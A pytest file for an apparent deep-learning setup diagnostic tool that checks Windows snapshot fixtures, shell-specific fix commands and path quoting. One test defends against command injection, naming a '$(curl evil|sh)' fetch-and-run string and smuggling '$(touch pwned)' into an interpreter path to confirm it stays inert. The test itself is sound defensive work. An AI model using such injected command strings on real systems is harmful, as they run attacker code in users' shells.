"""doctor on Windows machines: the Windows snapshot fixtures, Windows root causes, and fix commands that
paste into the user's shell (never bash on Windows)."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest

from dlsetup.doctor.runner import diagnose
from dlsetup.probe.model import Snapshot
from tests.probe.test_fixtures import load_script

FIX = Path(__file__).resolve().parent.parent / "fixtures"
WIN = FIX / "snapshots" / "windows"
NAMES = sorted(p.stem for p in WIN.glob("*.json"))

EXPECTED = {
    "win-rtx3060-laptop-no-driver": {"gpu.no_driver"},
    "win-rtx3060-546-torch-cpu": {"torch.cpu_build"},
    "win-store-alias": {"windows.store_alias"},
    "win-python-32bit": {"windows.python_32bit"},
    "win-stale-cuda-path": {"windows.stale_cuda_path"},
    "win-long-paths-off": {"windows.long_paths"},
    "win-chinese-user": {"windows.non_ascii_path", "windows.vc_runtime", "windows.conda_powershell"},
}
# What a Windows fix must never contain: bash-only syntax and Linux paths.
POSIX_ONLY = re.compile(r"(^|\s)(export|unset|hash -r|which|du -sh|source)\s|~/\.bashrc|/usr/local/cuda|\$PATH\b|&&")


def _snap(name: str) -> Snapshot:
    return Snapshot.load(WIN / f"{name}.json")


def test_every_issue_scenario_has_a_fixture():
    assert set(NAMES) == set(EXPECTED)


@pytest.mark.parametrize("name", NAMES)
def test_fixture_is_what_the_builder_makes(name):
    rebuilt = load_script(FIX / "windows" / "build.py").build(name)
    committed = json.loads((WIN / f"{name}.json").read_text(encoding="utf-8"))
    assert rebuilt == committed, "rebuild with: .venv/bin/python tests/fixtures/windows/build.py"


@pytest.mark.parametrize("name", NAMES)
def test_windows_fixture_gives_its_findings_and_no_posix_command(name):
    report = diagnose(_snap(name), source=str(WIN / f"{name}.json"))
    ids = {f.id for f in report.findings}
    assert EXPECTED[name] <= ids, ids
    assert "python.outside_env" not in ids  # paths compare with ntpath, case-insensitively
    assert report.shell == "powershell"  # a Windows snapshot read here: PowerShell by default
    for f in report.findings:
        for line in f.commands:
            assert not POSIX_ONLY.search(line), (f.id, line)


def test_no_driver_laptop_is_an_error_with_the_download_page_not_no_gpu():
    report = diagnose(_snap("win-rtx3060-laptop-no-driver"), source="student.json")
    f = next(f for f in report.findings if f.id == "gpu.no_driver")
    # issue 14: the registry's PCI id names the card from dlsetup's GPU database (RTX 3060 Laptop GPU, CC 8.6), so
    # the resolver plans the exact build (cu132 of 2.15.0, Windows driver floor R580) instead of `dlsetup resolve`
    assert f.severity == "error" and "nvidia.com/Download" in f.fix and "version 580 or newer" in f.fix
    assert "no_gpu" not in {x.id for x in report.findings}
    assert any("RTX 3060 Laptop GPU, Ampere, compute capability 8.6 (PCI 10de:2520)" in e for e in f.evidence)
    assert f.commands == ["C:\\Users\\student\\venvs\\dl\\Scripts\\python.exe -m pip install torch==2.15.0 "
                          "--index-url https://download.pytorch.org/whl/cu132"]


def test_cpu_torch_on_a_windows_gpu_laptop_prints_the_real_pip_command():
    """Defect 1: the interpreter path was a re.sub replacement (\\U is a bad escape) and the fix fell back to
    a placeholder. Now it is an argument."""
    report = diagnose(_snap("win-rtx3060-546-torch-cpu"), source="x.json", shell="powershell")
    f = next(f for f in report.findings if f.id == "torch.cpu_build")
    assert f.commands == ["C:\\Users\\student\\venvs\\dl\\Scripts\\python.exe -m pip install torch==2.14.1 "
                          "--index-url https://download.pytorch.org/whl/cu126"]
    cmd = diagnose(_snap("win-rtx3060-546-torch-cpu"), source="x.json", shell="cmd")
    assert next(f for f in cmd.findings if f.id == "torch.cpu_build").commands == f.commands


def test_paths_with_spaces_get_the_call_operator_in_powershell_and_quotes_in_cmd():
    snap = _snap("win-rtx3060-546-torch-cpu")
    snap.tooling.python.executable = "C:\\Program Files\\Python312\\python.exe"
    ps = next(f for f in diagnose(snap, shell="powershell").findings if f.id == "torch.cpu_build").commands[0]
    assert ps.startswith("& 'C:\\Program Files\\Python312\\python.exe' -m pip install torch==")
    cmd = next(f for f in diagnose(snap, shell="cmd").findings if f.id == "torch.cpu_build").commands[0]
    assert cmd.startswith('"C:\\Program Files\\Python312\\python.exe" -m pip install torch==')


def test_stale_cuda_path_fix_per_shell():
    snap = _snap("win-stale-cuda-path")
    forms = {sh: next(f for f in diagnose(snap, shell=sh).findings if f.id == "windows.stale_cuda_path").commands[0]
             for sh in ("powershell", "cmd")}
    assert forms == {"powershell": "Remove-Item Env:CUDA_PATH -ErrorAction SilentlyContinue", "cmd": "set CUDA_PATH="}


def test_hostile_snapshot_strings_render_inert_in_every_shell(tmp_path):
    """A snapshot is untrusted input: a path like $(curl evil|sh) must stay data in every shell."""
    snap = Snapshot.load(FIX / "snapshots" / "rtx4090-torch-cpu.json")
    evil = "$(touch pwned)/usr/bin/python3"
    snap.tooling.python.executable = evil
    for shell in ("bash", "zsh", "fish", "powershell", "cmd"):
        report = diagnose(snap, shell=shell)
        lines = [c for f in report.findings for c in f.commands if "pwned" in c]
        assert lines, shell
        for line in lines:
            if shell == "bash":
                subprocess.run(["bash", "-n", "-c", line], check=True, timeout=10)
                # run it with the program swapped for printf: the hostile string arrives as one plain argument
                out = subprocess.run(["bash", "-c", "printargs() { printf '%s\\n' \"$@\"; }; "
                                      + line.replace(f"'{evil}'", f"printargs '{evil}'", 1)],
                                     capture_output=True, text=True, cwd=tmp_path, timeout=10)
                assert out.stdout.splitlines()[0] == evil
            elif shell in ("zsh", "fish", "powershell"):
                assert f"'{evil}'" in line
            else:
                assert f'"{evil}"' in line
    assert not (tmp_path / "pwned").exists()


def test_linux_fixtures_keep_bash_and_pass_bash_n():
    for path in sorted((FIX / "snapshots").glob("*.json")):
        report = diagnose(Snapshot.load(path), shell="bash")
        script = "\n".join(c for f in report.findings for c in f.commands)
        subprocess.run(["bash", "-n", "-c", script], check=True, timeout=10)


def test_windows_snapshot_without_windows_section_still_loads(tmp_path):
    """Snapshots written by dlsetup 0.1.0 have no "windows" key."""
    doc = json.loads((WIN / "win-store-alias.json").read_text(encoding="utf-8"))
    doc.pop("windows")
    p = tmp_path / "old.json"
    p.write_text(json.dumps(doc), encoding="utf-8")
    snap = Snapshot.load(p)
    assert snap.windows is None and "windows" not in snap.to_dict()
    assert "windows.store_alias" in {f.id for f in diagnose(snap).findings}


def test_cli_shell_option_and_chinese(cli):
    path = str(WIN / "win-stale-cuda-path.json")
    r = cli("doctor", "--snapshot", path, "--shell", "cmd")
    assert r.code == 0 and "$ set CUDA_PATH=" in r.stdout
    r = cli("--lang", "zh", "doctor", "--snapshot", path, "--json")
    doc = r.json()
    assert doc["shell"] == "powershell"
    f = next(f for f in doc["findings"] if f["id"] == "windows.stale_cuda_path")
    assert "CUDA_PATH" in f["title"] and "工具包" in f["title"]


def test_old_driver_on_windows_says_how_to_update_it():
    """W30: the driver-too-old fix had no update step on Windows (only resolve commands)."""
    snap = _snap("win-rtx3060-546-torch-cpu")
    snap.nvidia.driver_version, snap.nvidia.cuda_driver_version = "516.94", "11.7"
    torch = snap.frameworks.items[0]
    torch.version, torch.cuda, torch.variant = "2.13.0+cu126", "12.6", "cu126"
    f = next(f for f in diagnose(snap, shell="cmd").findings if f.id == "torch.driver_too_old")
    assert f.notes[0]["at"] == 0 and f.notes[0]["id"] == "doctor.cmd.windows_driver"
    assert "nvidia.com/Download" in f.notes[0]["text"]
    assert not any(POSIX_ONLY.search(c) for c in f.commands)
